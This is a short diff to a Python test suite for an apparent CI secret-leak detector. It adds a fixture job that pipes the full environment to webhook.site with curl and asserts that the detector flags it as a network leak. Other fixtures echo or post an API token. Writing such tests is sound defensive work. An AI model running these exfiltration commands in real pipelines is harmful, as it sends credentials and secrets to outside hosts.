@@ -309,6 +309,8 @@ class TestLeaks:
         assert self.leaks("job: {script: 'echo $API_TOKEN'}") == [("log", "API_TOKEN", "")]
         assert self.leaks("job: {variables: {API_TOKEN: x}, script: 'echo $API_TOKEN'}") == []
         assert self.leaks("job: {script: printenv}") == []
+        sent = "job: {script: 'env | curl -d @- https://webhook.site/x'}"
+        assert self.leaks(sent) == [("network", "*", "webhook.site")]
 
     def test_what_variables_pass_on(self) -> None:
         text = "variables: {K: $API_TOKEN}\njob: {script: 'curl -d $K https://a.example'}"
